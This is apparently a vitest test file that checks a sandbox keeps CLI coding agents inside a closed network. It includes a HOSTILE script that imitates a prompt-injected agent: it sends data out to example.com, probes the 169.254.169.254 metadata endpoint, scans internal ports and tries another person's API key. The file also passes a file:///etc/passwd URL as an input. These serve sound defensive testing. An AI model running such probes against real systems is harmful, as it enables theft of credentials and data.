import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import http from 'node:http';
import { type AddressInfo, createServer } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NO_USAGE } from '#server/models/provider.ts';
import { detectSandbox } from '../sandbox/registry.ts';
import type { Sandbox } from '../sandbox/sandbox.ts';
import type { AgentEvent } from './agent.ts';
import { reachOf } from './reach.ts';
import { cliAgents } from './registry.ts';
import { runAgent } from './run.ts';

/** What a hostile text in a repository may make an agent try, from inside the real sandbox of this machine. */
const HOSTILE = `
import dns from 'node:dns/promises';
import net from 'node:net';
const { others } = JSON.parse(process.env.ATTEMPT);
const base = process.env.ANTHROPIC_BASE_URL;
const mine = process.env.ANTHROPIC_API_KEY;
const tcp = (host, port) => new Promise((done) => {
  const s = net.connect({ host, port });
  s.setTimeout(2000, () => { s.destroy(); done('timeout'); });
  s.on('connect', () => { s.destroy(); done('OPEN'); });
  s.on('error', (e) => done(e.code));
});
const get = (to, headers = {}) => fetch(to, { headers }).then(async (r) => r.status + ' ' + await r.text(), (e) => 'failed ' + (e.cause?.code ?? e.message));
const tried = {};
for (const [host, port] of others) tried[host + ':' + port] = await tcp(host, port);
tried.dns = await dns.lookup('example.com').then(() => 'OPEN', (e) => e.code);
tried.udp = await dns.resolve4('example.com').then(() => 'OPEN', (e) => e.code);
tried.web = await get('https://example.com/?code=all-of-it');
tried.inner = await get('http://127.0.0.1:' + others[0][1] + '/');
tried.metadata = await get('http://169.254.169.254/latest/meta-data');
tried.stranger = await get(base + '/v1/files', { 'x-api-key': 'sk-of-somebody-else' });
tried.model = await get(base + '/v1/messages', { 'x-api-key': mine });
console.log(JSON.stringify({ type: 'result', is_error: false, result: JSON.stringify(tried), usage: {} }));
`;
const KEY = 'sk-the-owner-pays-for-this';

let sandbox: Sandbox;
let root: string;
const stop: (() => Promise<void>)[] = [];
beforeAll(async () => {
  sandbox = await detectSandbox();
  root = await mkdtemp(join(tmpdir(), 'alai-closed-'));
  await writeFile(join(root, 'hostile.mjs'), HOSTILE);
});
afterAll(async () => {
  for (const end of stop) await end();
  await rm(root, { recursive: true, force: true });
});

async function listening(host: string, answer: http.RequestListener): Promise<number> {
  const server = http.createServer(answer);
  await new Promise<void>((r) => server.listen(0, host, r));
  stop.push(async () => {
    server.closeAllConnections();
    await new Promise((r) => server.close(r));
  });
  return (server.address() as AddressInfo).port;
}

async function run(
  script: string,
  given: Record<string, string>,
  o: { network?: boolean; env?: object } = {},
) {
  const events: AgentEvent[] = [];
  const attempt = { ATTEMPT: JSON.stringify(o.env ?? {}) };
  const agent = { ...cliAgents['claude-code'], argv: () => ['-c', script], env: () => attempt };
  const r = await runAgent(
    {
      found: { agent, program: '/bin/sh', readable: '/bin/sh' },
      ...{ prompt: '', model: '', schema: null, given, tools: null, network: o.network ?? false },
      ...{ seconds: 30, idleSeconds: 30, tokens: 1_000, calls: 10, sameCalls: 3 },
      place: { root, sandbox, hostDir: root, attempt: 1, signal: new AbortController().signal },
      onEvent: (e) => events.push(e),
    },
    { usage: NO_USAGE },
  );
  return { text: r.text, events };
}

describe('an agent in a closed network', () => {
  it('reaches its model and nothing else, whatever it tries', async (c) => {
    if (sandbox.kind !== 'bwrap') return c.skip('the network is closed by bubblewrap on this machine');
    const keys: unknown[] = [];
    const port = await listening('127.0.0.1', (req, res) => {
      keys.push(req.headers['x-api-key']);
      res.end('the model');
    });
    const other = await listening('0.0.0.0', (_, res) => res.end('OPEN'));
    const outside = Object.values(networkInterfaces())
      .flat()
      .find((n) => n && !n.internal && n.family === 'IPv4')?.address;
    const others = [
      ['127.0.0.1', other],
      ['127.0.0.1', port],
      ['169.254.169.254', 80],
      ['1.1.1.1', 53],
      ...(outside ? [[outside, other]] : []),
    ];
    const r = await run(
      'cat > /dev/null; node hostile.mjs',
      { ANTHROPIC_API_KEY: KEY, ANTHROPIC_BASE_URL: `http://127.0.0.1:${port}` },
      { env: { others } },
    );
    const tried = JSON.parse(r.text) as Record<string, string>;
    expect(tried.model).toBe('200 the model');
    expect(keys).toEqual([KEY]);
    expect(JSON.stringify(tried)).not.toContain('OPEN');
    for (const name of ['dns', 'udp']) expect(tried[name]).toMatch(/^(E|ECONN)/);
    expect(tried.stranger).toMatch(/^403/);
    const refused = r.events.flatMap((e) => (e.kind === 'refused' ? [e.what] : []));
    expect(refused).toContain('example.com:443');
    expect(refused).toContain('169.254.169.254:80');
    expect(refused.at(-1)).toContain('another key');
  });

  it('has no key to lose, not even in its environment', async (c) => {
    if (!sandbox.isolates) return c.skip();
    const says = `printf '{"type":"result","is_error":false,"result":"%s"}\\n' "$(env | grep -c ${KEY})"`;
    expect((await run(`cat > /dev/null; ${says}`, { ANTHROPIC_API_KEY: KEY })).text).toBe('0');
  });

  it('has the whole network where the step says so', async (c) => {
    if (sandbox.kind !== 'bwrap') return c.skip();
    const server = createServer((s) => s.end());
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const { port } = server.address() as AddressInfo;
    const says = `node -e 'require("net").connect(${port}, "127.0.0.1", () => { console.log(JSON.stringify({type:"result",is_error:false,result:process.env.ANTHROPIC_API_KEY})); process.exit() })'`;
    const r = await run(`cat > /dev/null; ${says}`, { ANTHROPIC_API_KEY: KEY }, { network: true });
    expect(r.text).toBe(KEY);
    await new Promise((r) => server.close(r));
  });

  it('leaves nothing of its way out behind', async () => {
    const script = `cat > /dev/null; echo '{"type":"result","is_error":false,"result":"yes"}'`;
    await run(script, { ANTHROPIC_API_KEY: KEY });
    await run('exit 3', { ANTHROPIC_API_KEY: KEY }).catch(() => {});
    expect(await readdir(join(root, 'run'))).toEqual([]);
  });
});

describe('where an agent may go', () => {
  it('is its maker, or the server it was given instead, which alone may lie in an inner net', () => {
    const { upstream } = reachOf(cliAgents.codex, { OPENAI_API_KEY: 'k' }).rules;
    expect(upstream).toMatchObject({ url: { href: 'https://api.openai.com/v1' }, inner: false });
    const own = { OPENAI_API_KEY: 'k', OPENAI_BASE_URL: 'http://10.0.0.7:8080/v1' };
    const { rules, inside } = reachOf(cliAgents.codex, own);
    expect(rules.upstream).toMatchObject({ url: { host: '10.0.0.7:8080' }, inner: true });
    expect(Object.values(rules.keys)).toEqual(['k']);
    expect(Object.keys(rules.keys)).toEqual([inside.OPENAI_API_KEY]);
    expect(rules.tunnels).toEqual([]);
  });

  it('is GitHub for Copilot, unless it has a model server of its own', () => {
    const token = { COPILOT_GITHUB_TOKEN: 't' };
    expect(reachOf(cliAgents.copilot, token)).toMatchObject({
      rules: { upstream: null, tunnels: expect.arrayContaining(['api.githubcopilot.com:443']) },
      inside: token,
    });
    const own = { ...token, COPILOT_PROVIDER_BASE_URL: 'https://llm.example/v1' };
    expect(reachOf(cliAgents.copilot, own).rules).toMatchObject({
      upstream: { url: { host: 'llm.example' } },
      tunnels: [],
    });
  });

  it('is nowhere when the address is none', () => {
    const wrong = { OPENAI_BASE_URL: 'file:///etc/passwd' };
    expect(() => reachOf(cliAgents.codex, wrong)).toThrow('OPENAI_BASE_URL is no address');
  });
});
